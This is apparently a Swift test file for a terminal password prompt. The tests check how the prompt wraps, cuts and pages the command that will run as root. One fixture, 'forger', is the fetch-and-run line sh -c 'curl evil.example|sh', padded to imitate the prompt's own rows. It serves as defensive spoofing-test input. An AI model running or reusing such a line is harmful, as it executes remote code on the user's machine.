import KeywardEngine
import Testing

@testable import KeywardTerminal

@Suite struct PurposeTests {
  private static let command =
    "apt-get install --no-install-recommends "
    + (1...60).map { "package-\($0)" }.joined(separator: " ")
  /// A command that has more rows than any window of the tests.
  private static let endless =
    "apt-get install --no-install-recommends "
    + (1...400).map { "package-\($0)" }.joined(separator: " ")

  private func purpose(_ command: String = command, door: String = "") -> Purpose {
    var purpose = Purpose()
    purpose.lead = "to run as root:"
    (purpose.plainLead, purpose.note) = ("for:", "as root")
    (purpose.command, purpose.door) = (command, door)
    return purpose
  }

  /// A command whose second half imitates a row of Keyward's own.
  private static let forger =
    "sh -c 'curl evil.example|sh' $'.\\u{a}' 'bbbbbbbbbbbbbbb to run as root: apt-get upgrade -y '"

  private func screen(
    _ form: ScreenForm, columns: Int, rows: Int, fields: Int = 1, offset: Int = 0
  ) -> ComposedScreen {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.question.purpose = purpose()
    model.question.asker = "asked by sudo, pid 4711, in ~/site ← bash ← lazygit ← zsh"
    model.question.title = "A title"
    model.question.description = (1...9).map { "Line \($0) of the question" }.joined(
      separator: "\n")
    model.form = form
    model.error = "Sorry, try again, the password was wrong"
    model.missing = ["core dumps are possible"]
    model.descriptionOffset = offset
    model.fields = Array(repeating: .init(prompt: "Password", mask: .bullets), count: fields)
    if fields == 0 {
      model.buttons = [
        .init(label: "OK", acceleratorIndex: nil, choice: .submit),
        .init(label: "Cancel", acceleratorIndex: nil, choice: .cancel),
      ]
    }
    return model.rendered(columns: columns, rows: rows)
  }

  @Test(
    "From 40 by 10 on, the first 40 characters of the command are on the screen of each form",
    arguments: ScreenForm.allCases, 0...2)
  func smallWindows(form: ScreenForm, fields: Int) {
    let head = String(Self.command.prefix(40))
    for columns in [40, 41, 57, 80, 200] {
      for rows in [10, 11, 16, 24, 60] {
        let lines = screen(form, columns: columns, rows: rows, fields: fields).buffer.lines
        let text = lines.map { $0.drop { " │|".contains($0) } }
          .map { TextWrap.trimmed(String($0.filter { $0 != "│" })) }.joined(separator: " ")
        // A row may end between the words, or in a word.
        let plain = text.filter { $0 != " " }
        #expect(plain.contains(head.filter { $0 != " " }), "\(columns) × \(rows): \(lines)")
      }
    }
  }

  @Test("The purpose outlives the asker and the title")
  func outlivesTheAsker() {
    for rows in 1...24 {
      let lines = screen(.full, columns: 60, rows: rows).buffer.lines.joined(separator: "\n")
      if lines.contains("lazygit") && !lines.contains("\n asked by") { continue }
      #expect(!lines.contains("asked by") || lines.contains("apt-get"), "\(rows): \(lines)")
    }
  }

  @Test("A long command is cut in the middle, whatever the size", arguments: 1...2)
  func cut(most: Int) {
    for width in [18, 38, 54, 70, 98] {
      let (rows, isCut, _) = purpose().rows(width: width, atMost: most)
      #expect(isCut && rows.count == most)
      #expect(rows[0].contains("apt-get"), "\(rows)")
      let text = rows.joined().filter { $0 != " " }
      #expect(text.contains("[…]") && text.contains("-60"), "\(rows)")
    }
    let wide = purpose().rows(width: 70).rows
    #expect(wide[0] == "to run as root: apt-get install --no-install-recommends package-1")
  }

  @Test("No row but the first begins at the left edge", arguments: ScreenForm.allCases)
  func forgedRows(form: ScreenForm) {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.question.purpose = purpose(Self.forger)
    model.form = form
    model.fields = [.init(prompt: "Password", mask: .bullets)]
    for columns in 24...100 {
      for offset in 0...1 {
        model.descriptionOffset = offset
        let lines = model.rendered(columns: columns, rows: 24).buffer.lines.map {
          $0.replacing("│", with: " ")
        }
        let text = lines.joined(separator: "\n")
        guard let first = lines.firstIndex(where: { $0.contains("sh -c") }) else {
          Issue.record("\(columns): \(text)")
          continue
        }
        let margin = lines[first].prefix { $0 == " " }.count
        let rest = lines[(first + 1)...].prefix { line in
          !line.allSatisfy { $0 == " " } && !["… Pg", "Password"].contains { line.contains($0) }
        }
        for line in rest {
          #expect(line.prefix { $0 == " " }.count >= margin + 2, "\(columns): \(text)")
        }
      }
    }
  }

  @Test("The rows of the asking program are indented, too")
  func askerRows() throws {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.question.asker = "asked by x, pid 4711, in ~/a-folder ← for: ← for: ls ← zsh"
    model.form = .inline
    model.fields = [.init(prompt: "Password", mask: .bullets)]
    let lines = model.rendered(columns: 36, rows: 24).buffer.lines
    #expect(lines[0].hasPrefix("asked by") && lines[1].hasPrefix("  "), "\(lines)")
    #expect(lines[2].hasPrefix("Password"), "\(lines)")
  }

  /// The sizes in which the middle of a command could not be read.
  private static let sizes = [
    (40, 10), (40, 12), (40, 16), (60, 10), (60, 18), (80, 10), (80, 16), (80, 24), (200, 60),
  ]

  @Test(
    "Page Down shows all of a long command, and Page Up goes back",
    arguments: ScreenForm.allCases, [false, true])
  func pages(form: ScreenForm, hasKeyboard: Bool) throws {
    guard form != .inline || !hasKeyboard else { return }
    for (columns, rows) in Self.sizes {
      var surface = PromptSurface()
      surface.isInline = form == .inline
      let prompt = try PromptHarness.prompt(
        hasKeyboard: hasKeyboard, on: surface,
        more: {
          $0.look.form = form
          $0.asker = "asked by sudo, pid 4711, in ~/site ← bash"
          $0.purpose = purpose(Self.endless)
          $0.description = "Line 1\nLine 2"
        })
      prompt.handle(.window(columns: columns, rows: rows), at: 1)
      func lines() -> [String] {
        prompt.picture(columns: columns, rows: rows).buffer.lines.map {
          $0.filter { !"│╭╮╰╯─".contains($0) }
        }
      }
      let first = lines()
      #expect(first.contains { $0.contains("… PgDn") }, "\(first)")
      var seen = ""
      repeat {
        prompt.press(.pageDown)
        seen += lines().joined(separator: " ") + " "
      } while prompt.screen.descriptionLinesLeft > 0
      let size = "\(form), \(columns) × \(rows), \(seen)"
      let words = Set(seen.split(separator: " "))
      #expect((1...400).allSatisfy { words.contains("package-\($0)") }, "\(size)")
      #expect(seen.contains("Line 1") && seen.contains("Line 2"), "\(size)")
      let last = lines()
      #expect(last.contains { $0.contains("… PgUp") }, "\(last)")
      // The text is there once.
      #expect(last.count { $0.contains("apt-get install") } <= 1, "\(last)")
      while prompt.descriptionOffset > 0 {
        prompt.press(.pageUp)
        _ = lines()
      }
      #expect(lines() == first)
    }
  }

  @Test("A window with free rows shows everything without Page Down")
  func freeRows() {
    let lines = screen(.card, columns: 200, rows: 60).buffer.lines
    #expect(lines.count { $0.contains("to run as root:") } == 1)
    let parts = [
      "asked by sudo", "package-60", "A title", "Line 9", "Sorry", "Password", "core dumps",
    ]
    for part in parts { #expect(lines.contains { $0.contains(part) }, "\(part): \(lines)") }
    #expect(!lines.contains { $0.contains("Pg") || $0.contains("[…]") }, "\(lines)")
  }

  @Test(
    "Who asks and for what are one block above the caller's texts", arguments: ScreenForm.allCases,
    [false, true])
  func oneBlock(form: ScreenForm, hasTitle: Bool) {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.question.asker = "asked by sudo, pid 4711, in ~/site ← bash"
    model.question.purpose = purpose("apt-get install one two three")
    if hasTitle { model.question.title = "CALLER title" }
    model.question.description = "CALLER one\nCALLER two"
    model.error = "CALLER error"
    model.form = form
    let label = "CALLER " + String(repeating: "label ", count: 9)
    model.fields = [.init(prompt: label, mask: .bullets)]
    for columns in [24, 40, 60, 80, 120] {
      for rows in 6...40 {
        let lines = model.rendered(columns: columns, rows: rows).buffer.lines
        let own = lines.indices.filter {
          lines[$0].contains("asked by") || lines[$0].contains("apt-get")
        }
        let first = lines.firstIndex { $0.contains("CALLER") } ?? lines.count
        #expect(own.allSatisfy { $0 < first }, "\(columns) × \(rows): \(lines)")
        // Only on row 0 the asker may be apart.
        guard let start = own.first, let end = own.last, start > 0 else { continue }
        #expect(lines[start...end].allSatisfy { !$0.isEmpty }, "\(columns) × \(rows): \(lines)")
      }
    }
    let plain = model.question.introduction(
      columns: 80, rows: 24, others: 1, ellipsis: "…")
    #expect(plain[0].hasPrefix("keyward: asked by") && plain[1].hasPrefix("for: apt"), "\(plain)")
  }

  @Test(
    "A command takes the free rows of a window before it is cut",
    arguments: [ScreenForm.full, .card])
  func freeRowsFirst(form: ScreenForm) {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.question.asker = "asked by sudo, pid 4711, in ~/site ← bash"
    model.question.purpose = purpose()
    model.question.description = "Line 1\nLine 2"
    model.form = form
    model.fields = [.init(prompt: "Password", mask: .bullets)]
    for rows in 10...40 {
      let screen = model.rendered(columns: 80, rows: rows)
      let lines = screen.buffer.lines
      let text = lines.joined(separator: " ")
      let words = Set(text.split(separator: " "))
      let isWhole = (1...60).allSatisfy { words.contains("package-\($0)") }
      #expect(isWhole == (rows >= 18), "\(rows): \(lines)")
      #expect(text.contains("[…]") == !isWhole && text.contains("PgDn") == !isWhole, "\(lines)")
      #expect(text.contains("Line 2"), "\(rows): \(lines)")
      // Row 0 and one row below may be empty.
      let edges = lines.prefix { $0.isEmpty }.count + lines.reversed().prefix { $0.isEmpty }.count
      #expect(isWhole || edges <= 2, "\(rows): \(lines)")
    }
  }

  @Test("Rows end between words; only a word that is wider than a row is broken")
  func wordsStayWhole() {
    let words = (1...40).map { "w\($0)." + String(repeating: "x", count: ($0 * 7) % 23) }
    for width in 30...120 {
      for most in 1...30 {
        let (rows, isCut, _) = purpose(words.joined(separator: " "))
          .rows(width: width, atMost: most)
        // In few rows, the head of the command is more important.
        guard most > 4 || !isCut else { continue }
        let known = Set(words + ["to", "run", "as", "root:", "for:", "(as", "root)"])
        let shown = rows.flatMap { $0.split(separator: " ") }.filter { !$0.contains("[…]") }
        #expect(shown.allSatisfy { known.contains(String($0)) }, "\(width), \(most): \(rows)")
        let cuts = rows.count { $0.contains("[…]") }
        #expect(cuts == (isCut ? 1 : 0), "\(width), \(most): \(rows)")
      }
    }
    let host = String(repeating: "long-name.", count: 3) + "example.org"
    let rows = purpose("ssh -p 2222 deploy \(host) uptime").rows(width: 48, atMost: 9).rows
    #expect(rows.contains { $0.contains(host) }, "\(rows)")
    #expect(TextWrap.lines(of: "for: " + host + host, width: 30)[0].hasPrefix("for: long"))
  }

  @Test(
    "Each word of a request is on the screen, or Page Down is offered and shows it",
    arguments: ScreenForm.allCases, [false, true])
  func nothingIsLost(form: ScreenForm, hasKeyboard: Bool) throws {
    guard form != .inline || !hasKeyboard else { return }
    let asker = "asked by sudo, pid 4711, in ~/a/long/folder ← bash ← lazygit ← zsh"
    for count in [10, 40, 58, 66, 74, 90, 140] {
      var words = [Substring("cmd-")]
      while words.map(\.count).reduce(0, +) + words.count < count {
        words.append(Substring("w\(words.count)."))
      }
      var purpose = purpose(words.joined(separator: " "), door: "variable TOKEN")
      (purpose.lead, purpose.note) = ("to run as ada:", "as ada")
      for (columns, rows) in Self.sizes {
        var surface = PromptSurface()
        surface.isInline = form == .inline
        let prompt = try PromptHarness.prompt(
          hasKeyboard: hasKeyboard, on: surface,
          more: {
            $0.look.form = form
            ($0.asker, $0.purpose) = (asker, purpose)
          })
        prompt.handle(.window(columns: columns, rows: rows), at: 1)
        func shown() -> (words: Set<Substring>, marks: Int, text: String) {
          let lines = prompt.picture(columns: columns, rows: rows).buffer.lines.map {
            $0.filter { !"│╭╮╰╯─".contains($0) }
          }
          let words = lines.flatMap { $0.split { " ():,".contains($0) } }
          return (Set(words), lines.count { $0.contains("PgDn") }, lines.joined(separator: "\n"))
        }
        func missing(from found: Set<Substring>) -> [Substring] {
          let wanted =
            words + asker.split { " ,".contains($0) } + ["ada", "variable", "TOKEN"]
          return wanted.filter { !found.contains($0) }
        }
        let first = shown()
        let size = "\(form), \(count), \(columns) × \(rows): \(first.text)"
        let isMissing = !missing(from: first.words).isEmpty
        #expect((first.marks == 1) == isMissing && first.marks < 2, "\(size)")
        guard isMissing else { continue }
        var found: Set<Substring> = []
        repeat {
          prompt.press(.pageDown)
          found.formUnion(shown().words)
        } while prompt.screen.descriptionLinesLeft > 0
        #expect(missing(from: found).isEmpty, "\(missing(from: found)), \(size)")
      }
    }
  }

  @Test(
    "A command is whole, or the asking program has only one row",
    arguments: ScreenForm.allCases)
  func sharedRows(form: ScreenForm) {
    var model = PromptViewModel(Question(), on: PromptSurface())
    model.form = form
    model.question.asker = "asked by sudo, pid 4711, in ~/a/long/folder ← bash ← zsh"
    model.fields = [.init(prompt: "Password", mask: .bullets)]
    for length in [60, 80, 100, 120, 200] {
      var purpose = purpose("w " + String(repeating: "x ", count: length / 2) + "end")
      (purpose.lead, purpose.note) = ("", "")
      model.question.purpose = purpose
      let lines = model.rendered(columns: 40, rows: 10).buffer.lines
      let isCut = lines.contains { $0.contains("[…]") }
      let rowsOfAsker = lines.count { $0.contains("asked by") || $0.contains("zsh") }
      #expect(!isCut || rowsOfAsker <= 1, "\(lines)")
      // Row 0, three rows of the command, the box of the field and the keys.
      #expect(isCut == (length > (form == .inline ? 100 : 120)), "\(length): \(lines)")
    }
  }

  @Test("In a tiny window the question is whole before the command has a second row")
  func questionsInTinyWindows() {
    var model = PromptViewModel(Question(), on: PromptSurface())
    (model.form, model.question.purpose) = (.card, purpose())
    model.question.asker = "asked by clean-up, pid 4711, in ~/site"
    model.question.description = "Delete all 1,204 files of this folder?"
    model.buttons = [("Delete", .submit), ("Keep", .disagree), ("Cancel", .cancel)].map {
      .init(label: $0, acceleratorIndex: nil, choice: $1)
    }
    let lines = model.rendered(columns: 30, rows: 8).buffer.lines
    let text = lines.joined(separator: " ").split(separator: " ")
    #expect(text.contains(model.question.description.split(separator: " ")), "\(lines)")
    #expect(text.contains("PgDn") && lines.contains { $0.contains("apt-get") }, "\(lines)")
  }

  @Test("No row ends in the words about a command")
  func wordsAboutACommandStayTogether() {
    for width in 30...90 {
      for count in 1...40 {
        let purpose = purpose(String(repeating: "x", count: count), door: "descriptor 3")
        let rows = purpose.rows(width: width, atMost: 4).rows + purpose.whole(width: width)
        for row in rows {
          #expect(!["descriptor", "(as", "(descriptor"].contains { row.hasSuffix($0) }, "\(rows)")
          #expect(!row.contains("\u{a0}"))
        }
      }
    }
  }

  @Test("A hidden value and a cut look different")
  func marks() {
    let line = CommandText().line(
      ["curl", "--password=abc"].map { Array($0.utf8) }
        + (1...30).map { Array("--token=value-\($0)".utf8) })
    for width in 20...120 {
      for most in 1...4 {
        let (rows, isCut, _) = purpose(line).rows(width: width, atMost: most)
        let text = rows.map { $0.drop { $0 == " " } }.joined()
        #expect(text.components(of: "[…]") == (isCut ? 2 : 1), "\(rows)")
        #expect(!text.replacing("[…]", with: "|").contains("……"), "\(rows)")
      }
    }
    #expect(CommandText(isASCII: true).cutMark == "[...]")
    // A word cannot imitate the mark.
    #expect(CommandText().line([Array("a[…]b".utf8)]) == "$'a[\\u{2026}]b'")
  }

  @Test(
    "Page Down is offered exactly if it shows more, in the last row of the text that is cut",
    arguments: ScreenForm.allCases, [false, true])
  func markOfPageDown(form: ScreenForm, isDecision: Bool) throws {
    for count in [1, 3, 12, 60] {
      let command = "apt-get " + (1...count).map { "p\($0)." }.joined(separator: " ")
      for columns in [28, 40, 60, 80] {
        for rows in 8...26 {
          var surface = PromptSurface()
          surface.isInline = form == .inline
          let prompt = try PromptHarness.prompt(
            hasKeyboard: false, on: surface,
            more: {
              $0.look.form = form
              if isDecision { $0.kind = .decision }
              $0.purpose = purpose(command)
              $0.description = "Q1. Q2.\nQ3."
              $0.yesLabel = .own(.yes)
            })
          prompt.handle(.window(columns: columns, rows: rows), at: 1)
          func lines() -> [String] {
            prompt.picture(columns: columns, rows: rows).buffer.lines.map {
              $0.filter { !"│╭╮╰╯─".contains($0) }
            }
          }
          let wanted = (1...count).map { "p\($0)." } + ["Q1.", "Q2.", "Q3."]
          let first = lines()
          let words = Set(first.flatMap { $0.split(separator: " ") })
          var missing = wanted.filter { !words.contains(Substring($0)) }
          // The user is named before or after the command.
          if words.isDisjoint(with: ["root:", "root)"]) { missing.append("root") }
          let size = "\(count), \(columns) × \(rows): \(first)"
          let marks = first.indices.filter { first[$0].contains("PgDn") }
          #expect((marks.count == 1) == !missing.isEmpty && marks.count < 2, "\(size)")
          guard let mark = marks.first, mark > 0 else { continue }
          let isQuestionCut = missing.contains { $0.hasPrefix("Q") }
          let cut = first.firstIndex { $0.contains("[…]") } ?? 0
          if !isQuestionCut, let question = first.firstIndex(where: { $0.contains("Q1.") }) {
            #expect((cut..<question).contains(mark), "\(size)")
          }
          prompt.press(.pageDown)
          let opened = Set(lines().flatMap { $0.split(separator: " ") })
          #expect(!opened.isSubset(of: words), "\(size)")
        }
      }
    }
  }

  @Test("A visible answer is submitted only after all of the question was shown")
  func visibleAnswers() throws {
    var question = Question()
    question.look.form = .card
    question.isVisible = true
    question.asker = "asked by ssh, pid 18814, in ~/site ← bash"
    question.purpose = Purpose()
    question.purpose?.lead = "to log in to:"
    question.purpose?.command = "ada@localhost"
    question.prompt = .given(
      """
      The authenticity of host 'localhost (127.0.0.1)' can't be established.
      ED25519 key fingerprint is SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDeksGwmvCiPS1G2Jk.
      This key is not known by any other names.
      Are you sure you want to continue connecting (yes/no/[fingerprint])?
      """)
    (question.yesLabel, question.cancelLabel) = ("OK", "Cancel")
    for (columns, rows) in [(40, 10), (80, 24)] {
      // A command that is cut has no influence.
      if rows == 24 { question.purpose = purpose() }
      let prompt = Prompt(
        question, fields: try PromptHarness.fields(1), surface: PromptSurface())
      prompt.begin(columns: columns, rows: rows)
      func draw() -> String { prompt.draw(columns: columns, rows: rows) }
      #expect(draw().contains("asked by ssh") && draw().contains("ED25519"), "\(draw())")
      prompt.type("yes")
      var pages = 0
      while !draw().contains("[fingerprint]"), prompt.outcome == nil, pages < 9 {
        prompt.press(.enter)
        pages += 1
      }
      #expect(prompt.outcome == nil && (pages > 0) == (rows == 10), "\(draw())")
      prompt.press(.enter)
      #expect(prompt.outcome == .submitted)
    }
  }

  @Test("From 80 columns on the door is shown with any command", arguments: 1...2)
  func doorStays(most: Int) {
    for count in 1...40 {
      let purpose = purpose(
        String(repeating: "word ", count: 8 * count) + "end", door: "variable TOKEN")
      for width in [80, 81, 100, 160] {
        let rows = purpose.rows(width: width, atMost: most).rows
        #expect(rows.joined().hasSuffix("variable TOKEN)"), "\(count), \(width): \(rows)")
        #expect(rows.joined().contains(String(purpose.command.prefix(40))), "\(count), \(width)")
      }
    }
  }

  @Test("Lead words give way before a part of the command, and the door last")
  func leadsGiveWay() {
    let whole = String(repeating: "x", count: 58)
    func text(_ command: String) -> String {
      let rows = purpose(command).rows(width: 38).rows
      return rows[0] + rows.dropFirst().map { $0.dropFirst(2) }.joined()
    }
    #expect(text(whole) == "to run as root: " + whole)
    let more = String(repeating: "x", count: 59)
    #expect(text(more) == "for: \(more) (as root)")
    let door = purpose(Self.command, door: "variable TOKEN").rows(width: 70, isBrief: false).rows
    #expect(door.joined().hasSuffix(" (variable TOKEN)"))
    #expect(
      purpose("ls").rows(width: 70, isBrief: true).rows == ["for: ls (as root)"])
  }

  @Test("The mark of a cut is between words if the next blank is near")
  func cutBetweenWords() {
    let start = "/usr/local/sbin/rotate-backups --keep-da"
    for count in 1...5 {
      let word = String(repeating: "y", count: count)
      let purpose = purpose("\(start)\(word) 7 --keep-weekly 5 --keep-monthly 12 --prune one two")
      for width in 42...60 {
        let rows = purpose.rows(width: width).rows
        let text = rows.map { $0.drop { $0 == " " } }.joined(separator: " ")
        guard text.contains("[…]") else { continue }
        let head = text.prefix { $0 != "[" }
        #expect(head.hasSuffix(" "), "\(rows)")
        #expect(head.contains(start), "\(rows)")
      }
    }
  }

  @Test("No width is too small")
  func anyWidth() {
    for width in 1...120 {
      for isBrief in [false, true] {
        let rows = purpose(door: "descriptor 3").rows(width: width, isBrief: isBrief).rows
        #expect(rows.count <= 2 && rows.allSatisfy { CharacterWidth.of($0) <= width })
      }
    }
  }
}

extension String {
  /// The number of parts between the occurrences of `separator`.
  fileprivate func components(of separator: String) -> Int {
    split(separator: separator, omittingEmptySubsequences: false).count
  }
}
